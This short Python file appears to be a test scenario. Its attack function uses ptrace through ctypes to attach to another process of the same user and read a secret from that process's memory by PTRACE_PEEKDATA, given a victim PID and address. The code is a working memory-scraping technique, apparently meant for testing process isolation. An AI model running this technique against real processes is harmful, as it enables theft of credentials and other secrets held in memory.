"""Debugs another process of the same user, the old way: attaching stops it."""

import ctypes
import os

LIBC = ctypes.CDLL(None, use_errno=True)


def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


LIBC.ptrace.restype = ctypes.c_long
PEEK, ATTACH, DETACH = 2, 16, 17


def ptrace(request, pid, address=0, data=0):
    return LIBC.ptrace(request, pid, ctypes.c_void_p(address), ctypes.c_void_p(data))


def attack(world):
    pid, address = world["victim_pid"], world["victim_address"]
    checked(ptrace(ATTACH, pid))
    os.waitpid(pid, 0)
    words = [ptrace(PEEK, pid, address + at) for at in range(0, world["secret_length"], 8)]
    checked(ptrace(DETACH, pid))
    return b"".join(word.to_bytes(8, "little", signed=True) for word in words)
